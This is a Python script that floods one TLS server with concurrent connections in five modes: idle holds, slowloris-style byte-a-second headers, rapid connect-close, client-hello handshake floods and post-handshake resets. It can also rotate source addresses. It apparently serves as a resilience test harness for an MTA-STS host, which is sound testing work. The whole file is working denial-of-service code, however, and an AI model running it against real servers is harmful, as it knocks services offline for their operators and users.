#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Floods of one server: usage: floods.py KIND HOST PORT CONNECTIONS SECONDS [SOURCE...]

So many connections at a time, each replaced when it ends, for so long or until SIGTERM. Prints
"ready" when each has been tried once, and at the end how many there were. The server's name is
example's; HOST is its address.
"""

import asyncio
import json
import itertools
import resource
import signal
import socket
import ssl
import sys
import time

from wire import TlsClient, client_hello, reset, server_name

NAME = "mta-sts.example.com"
REQUEST_START = f"GET /.well-known/mta-sts.txt HTTP/1.1\r\nHost: {NAME}\r\nX: ".encode()
CONTEXT = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
CONTEXT.check_hostname = False
CONTEXT.verify_mode = ssl.CERT_NONE
HELLO = client_hello(server_name(NAME.encode()))
IP_BIND_ADDRESS_NO_PORT = 24
CONNECT_TIMEOUT_S = 10


async def shake(loop, connection):
    """Through the handshake; returns the client, whose Finished has been sent."""
    client = TlsClient(CONTEXT, NAME)
    while not client.shake():
        await loop.sock_sendall(connection, client.to_send())
        client.receive(await loop.sock_recv(connection, 65536))
    await loop.sock_sendall(connection, client.to_send())
    return client


async def idle(loop, connection):
    """Not a byte, until the server has enough of it."""
    await loop.sock_recv(connection, 1)


async def slow_headers(loop, connection):
    """A request that never ends, a byte each second."""
    client = await shake(loop, connection)
    await loop.sock_sendall(connection, client.encrypt(REQUEST_START))
    while True:
        await asyncio.sleep(1)
        await loop.sock_sendall(connection, client.encrypt(b"x"))


async def connections(_loop, connection):
    """Opened, held for a second, closed."""
    await asyncio.sleep(1)
    connection.close()


async def handshakes(loop, connection):
    """The server computes its part of a handshake, the attacker nothing of his."""
    await loop.sock_sendall(connection, HELLO)
    await loop.sock_recv(connection, 65536)


async def resets(loop, connection):
    """Reset after the handshake."""
    await shake(loop, connection)
    reset(connection)


KINDS = {kind.__name__.replace("_", "-"): kind
         for kind in (idle, slow_headers, connections, handshakes, resets)}


class Flood:
    def __init__(self, kind, address, sources):
        self.kind, self.address = kind, address
        self.sources = itertools.cycle(sources or [None])
        self.family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
        self.counts = {"connected": 0, "refused": 0, "ended": 0}
        self.n_tried = 0
        self.is_over = asyncio.Event()

    async def _connect(self, loop):
        connection = socket.socket(self.family, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        source = next(self.sources)
        try:
            if source:
                connection.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
                connection.bind((source, 0))
            await asyncio.wait_for(loop.sock_connect(connection, self.address), CONNECT_TIMEOUT_S)
        except BaseException:
            connection.close()
            raise
        return connection

    async def _live(self, loop):
        """One connection after the other."""
        is_first = True
        while not self.is_over.is_set():
            connection = None
            try:
                connection = await self._connect(loop)
                self.counts["connected"] += 1
                self.n_tried += is_first
                is_first = False
                await self.kind(loop, connection)
            except (OSError, asyncio.TimeoutError):
                self.counts["ended" if connection else "refused"] += 1
                self.n_tried += is_first
                is_first = False
                await asyncio.sleep(0.05)
            finally:
                if connection:
                    connection.close()

    async def run(self, n_connections, seconds):
        loop = asyncio.get_running_loop()
        loop.add_signal_handler(signal.SIGTERM, self.is_over.set)
        end = time.monotonic() + seconds
        tasks = [asyncio.create_task(self._live(loop)) for _ in range(n_connections)]
        ready_by = time.monotonic() + CONNECT_TIMEOUT_S + 5
        while self.n_tried < n_connections and time.monotonic() < ready_by:
            await asyncio.sleep(0.05)
        print("ready", flush=True)
        try:
            await asyncio.wait_for(self.is_over.wait(), max(end - time.monotonic(), 0.1))
        except asyncio.TimeoutError:
            self.is_over.set()
        for task in tasks:
            task.cancel()
        await asyncio.wait(tasks, timeout=CONNECT_TIMEOUT_S)
        print(json.dumps(self.counts), flush=True)


def main():
    kind, host, port, n_connections, seconds, *sources = sys.argv[1:]
    signal.alarm(int(seconds) + 2 * CONNECT_TIMEOUT_S)  # nobody has to end it
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(Flood(KINDS[kind], (host, int(port)), sources).run(
        min(int(n_connections), hard - 64), float(seconds)))


if __name__ == "__main__":
    main()
